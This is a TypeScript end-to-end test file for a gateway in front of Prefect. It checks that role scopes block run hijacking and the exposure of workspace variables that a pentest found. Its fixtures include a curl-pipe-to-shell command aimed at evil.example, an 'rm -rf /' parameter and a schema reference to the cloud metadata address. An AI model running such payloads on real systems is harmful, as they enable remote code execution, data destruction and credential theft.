// Pentest findings 1 and 2 of issue 14, end to end: request bodies that choose what a worker runs
// (a deployment, a pool, job variables, parameters, a SCHEDULED state) or that make Prefect reveal
// workspace variables need more than the route's own scope. Sent through the gateway to a fake
// Prefect server that records what arrives, and asked of forward-auth, which never sees a body.
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { WORKSPACE_ROLE_IDS } from '../../src/authz/workspace-roles.js';
import { useHarness } from '../support/harness.js';
import { botWithRole, workspaceWithUpstream, type Bot } from '../support/members.js';
import { startFakePrefect, type FakePrefect } from '../support/fake-prefect.js';

const RUN = '7f0c5a52-0e6b-4d57-9d0a-0c2a0d5e9a12';
const FLOW = '7f0c5a52-0e6b-4d57-9d0a-0c2a0d5e9a10';
const DEPLOYMENT = '7f0c5a52-0e6b-4d57-9d0a-0c2a0d5e9a11';

const h = useHarness();
let fake: FakePrefect;
let owner: { accountId: string; key: string };
let base: string;
let worker: Bot;
let developer: Bot;
let viewer: Bot;
/** A custom role with see_flows only: no see_variables. */
let flowsOnly: Bot;

beforeAll(async () => {
  fake = await startFakePrefect();
  owner = await h.bootstrap();
  const ws = await workspaceWithUpstream(h, owner, fake.url);
  base = ws.base;
  const withRole = (roleId: string) => botWithRole(h, owner, ws.id, roleId);
  worker = await withRole(WORKSPACE_ROLE_IDS.Worker);
  developer = await withRole(WORKSPACE_ROLE_IDS.Developer);
  viewer = await withRole(WORKSPACE_ROLE_IDS.Viewer);
  const role = await h.request('POST', `/api/accounts/${owner.accountId}/workspace_roles/`, { key: owner.key, body: { name: 'Flows only', scopes: ['see_flows'] } });
  expect(role.status).toBe(201);
  flowsOnly = await withRole(role.body.id);
});

afterAll(async () => {
  await fake?.close();
});

beforeEach(() => fake.reset());

/** The finding's request: a run of any deployment, on any pool, with the caller's own command. */
const HIJACK = {
  flow_id: FLOW,
  deployment_id: DEPLOYMENT,
  work_pool_name: 'prod-pool',
  work_queue_name: 'default',
  job_variables: { command: 'sh -c "curl https://evil.example/x | sh"', env: { AWS_PROFILE: 'prod' } },
  state: { type: 'SCHEDULED', name: 'Scheduled' },
};

async function expectRefused(res: { status: number; body: any }, scope: string) {
  expect(res.status).toBe(403);
  expect(res.body.code).toBe('FORBIDDEN');
  expect(res.body.detail).toContain(`\`${scope}\``);
  expect(fake.requests).toEqual([]);
}

function expectForwarded(res: { status: number }, sent: string) {
  expect(fake.requests).toHaveLength(1);
  expect(fake.requests[0].body.toString('utf8')).toBe(sent);
  expect(res.status).toBe(fake.requests[0].status);
}

describe('finding 1: a Worker key choosing what a worker runs', () => {
  it('refuses POST /flow_runs/ with a deployment, pool, queue and job variables (403, nothing forwarded); a Developer key gets through', async () => {
    const refused = await h.request('POST', `${base}/flow_runs/`, { key: worker.key, body: HIJACK });
    await expectRefused(refused, 'run_deployments');
    expect(refused.body.detail).toBe(
      'POST /flow_runs/ needs the workspace scope `run_deployments`, which your role in this workspace does not have. Choosing a deployment, work pool, work queue, job variables or new parameters for a run, or scheduling it again, is running a deployment: it needs run_deployments (a Worker key creates and reports runs without these).',
    );
    const allowed = await h.request('POST', `${base}/flow_runs/`, { key: developer.key, body: HIJACK });
    expectForwarded(allowed, JSON.stringify(HIJACK));
  });

  it('refuses each of those fields alone', async () => {
    for (const [field, value] of Object.entries({ deployment_id: DEPLOYMENT, work_pool_name: 'p', work_queue_name: 'q', job_variables: { command: 'id' }, infrastructure_document_id: DEPLOYMENT })) {
      const res = await h.request('POST', `${base}/flow_runs/`, { key: worker.key, body: { flow_id: FLOW, [field]: value } });
      expect(res.status, `${field}: ${JSON.stringify(value)}`).toBe(403);
    }
    expect(fake.requests).toEqual([]);
  });

  it('lets a Worker key create a subflow run as Prefect 3.0–3.2 clients send it, every field there and null where unset', async () => {
    const subflow = { state: { type: 'PENDING', name: 'Pending' }, name: null, flow_id: FLOW, deployment_id: null, flow_version: 'abc', parameters: {}, context: {}, parent_task_run_id: RUN, infrastructure_document_id: null, empirical_policy: { retries: 0, retry_delay: 0 }, tags: [], idempotency_key: null };
    expectForwarded(await h.request('POST', `${base}/flow_runs/`, { key: worker.key, body: subflow }), JSON.stringify(subflow));
  });

  it('lets a Worker key create a subflow run as the flow engine sends it', async () => {
    const subflow = { flow_id: FLOW, flow_version: 'abc', name: 'child', parameters: { n: 1 }, context: {}, tags: [], parent_task_run_id: RUN, state: { type: 'PENDING', name: 'Pending' }, empirical_policy: { retries: 0, retry_delay: 0 } };
    const res = await h.request('POST', `${base}/flow_runs/`, { key: worker.key, body: subflow });
    expectForwarded(res, JSON.stringify(subflow));
  });

  it('reads the body as Prefect parses it: escaped keys, the last of duplicate keys, any content type; refuses what it cannot parse', async () => {
    const raw = [
      `{"flow_id": "${FLOW}", "deployment\\u005fid": "${DEPLOYMENT}"}`,
      `{"flow_id": "${FLOW}", "job_variables": null, "job_variables": {"command": "id"}}`,
      `{"flow_id": "${FLOW}", "work_pool_name": "p", "work_pool_name": "q"}`,
      `\ufeff{"flow_id": "${FLOW}"}`, // Python reads a UTF-8 BOM; JSON.parse does not: unreadable counts as every field
      `{"flow_id": "${FLOW}", "parameters": {"x": NaN}}`, // Python's json takes NaN
      `flow_id=${FLOW}&deployment_id=${DEPLOYMENT}`,
    ];
    for (const rawBody of raw) {
      for (const type of ['application/json', 'text/plain', 'application/x-www-form-urlencoded']) {
        const res = await h.request('POST', `${base}/flow_runs/`, { key: worker.key, rawBody, headers: { 'content-type': type } });
        expect(res.status, `${type}: ${rawBody}`).toBe(403);
      }
    }
    expect(fake.requests).toEqual([]);
    // The same keys spelled differently are other (unknown) fields to Pydantic: forwarded, answered 422 there.
    const other = `{"flow_id": "${FLOW}", "Deployment_Id": "${DEPLOYMENT}"}`;
    expectForwarded(await h.request('POST', `${base}/flow_runs/`, { key: worker.key, rawBody: other, headers: { 'content-type': 'application/json' } }), other);
  });

  it('refuses PATCH /flow_runs/{id} with job variables or parameters; lets the worker and the engine record the pid, version and policy', async () => {
    for (const body of [{ job_variables: { command: 'sh -c id' } }, { job_variables: null }, { parameters: { cmd: 'rm -rf /' } }]) {
      await expectRefused(await h.request('PATCH', `${base}/flow_runs/${RUN}`, { key: worker.key, body }), 'run_deployments');
    }
    const developerPatch = { job_variables: { command: 'sh -c id' } };
    expectForwarded(await h.request('PATCH', `${base}/flow_runs/${RUN}`, { key: developer.key, body: developerPatch }), JSON.stringify(developerPatch));
    for (const body of [{ infrastructure_pid: 'host:4242' }, { flow_version: '1a2b3c', empirical_policy: { retries: 0, retry_delay: 0, pause_keys: [], resuming: false, retry_type: null } }]) {
      fake.reset();
      expectForwarded(await h.request('PATCH', `${base}/flow_runs/${RUN}`, { key: worker.key, body }), JSON.stringify(body));
    }
  });

  it('refuses sending a run back to SCHEDULED, one or in bulk; lets the run report its other states', async () => {
    await expectRefused(await h.request('POST', `${base}/flow_runs/${RUN}/set_state`, { key: worker.key, body: { state: { type: 'SCHEDULED', name: 'AwaitingRetry' }, force: true } }), 'run_deployments');
    await expectRefused(await h.request('POST', `${base}/flow_runs/bulk_set_state`, { key: worker.key, body: { state: { type: 'SCHEDULED' } } }), 'run_deployments');
    const running = { state: { type: 'RUNNING', name: 'Running' }, force: false };
    expectForwarded(await h.request('POST', `${base}/flow_runs/${RUN}/set_state`, { key: worker.key, body: running }), JSON.stringify(running));
  });

  it('judges these routes at forward-auth as if the body used every field: 403 for a Worker key, 204 for a Developer key', async () => {
    const authorize = async (key: string, method: string, path: string) =>
      h.request('GET', `/api/gateway/authorize`, { key, headers: { 'x-original-method': method, 'x-original-uri': `${base}${path}` } });
    for (const [method, path] of [['POST', '/flow_runs/'], ['PATCH', `/flow_runs/${RUN}`], ['POST', `/flow_runs/${RUN}/set_state`]]) {
      const refused = await authorize(worker.key, method, path);
      expect(refused.status, `${method} ${path}`).toBe(403);
      expect(refused.body.detail).toContain('`run_deployments`');
      expect(refused.body.detail).toContain('Forward-auth never sees the request body');
      expect((await authorize(developer.key, method, path)).status, `${method} ${path}`).toBe(204);
    }
  });
});

describe('finding 2: workspace variables through schema validation and hydration', () => {
  const VALIDATE = { schema: { type: 'object', properties: { p: { type: 'integer' } } }, values: { p: { __prefect_kind: 'workspace_variable', variable_name: 'db_password' } } };

  it('refuses POST /ui/schemas/validate to a role without see_variables (403, nothing forwarded); a Viewer gets through', async () => {
    await expectRefused(await h.request('POST', `${base}/ui/schemas/validate`, { key: flowsOnly.key, body: VALIDATE }), 'see_variables');
    expectForwarded(await h.request('POST', `${base}/ui/schemas/validate`, { key: viewer.key, body: VALIDATE }), JSON.stringify(VALIDATE));
  });

  it('refuses a schema that points outside itself to everyone but the Owner', async () => {
    const remote = { schema: { type: 'object', properties: { p: { $ref: 'http://169.254.169.254/latest/meta-data/' } } }, values: {} };
    await expectRefused(await h.request('POST', `${base}/ui/schemas/validate`, { key: developer.key, body: remote }), 'manage_workspace_settings');
    expectForwarded(await h.request('POST', `${base}/ui/schemas/validate`, { key: owner.key, body: remote }), JSON.stringify(remote));
  });

  it('refuses a variable placeholder in resume run_input to a role without see_variables', async () => {
    const role = await h.request('POST', `/api/accounts/${owner.accountId}/workspace_roles/`, { key: owner.key, body: { name: 'Runs, no variables', scopes: ['run_flows'] } });
    const bot = await botWithRole(h, owner, base.split('/')[5], role.body.id);
    const body = { run_input: { answer: { __prefect_kind: 'workspace_variable', variable_name: 'db_password' } } };
    await expectRefused(await h.request('POST', `${base}/flow_runs/${RUN}/resume`, { key: bot.key, body }), 'see_variables');
    expectForwarded(await h.request('POST', `${base}/flow_runs/${RUN}/resume`, { key: bot.key, body: { run_input: { answer: 'yes' } } }), JSON.stringify({ run_input: { answer: 'yes' } }));
  });
});
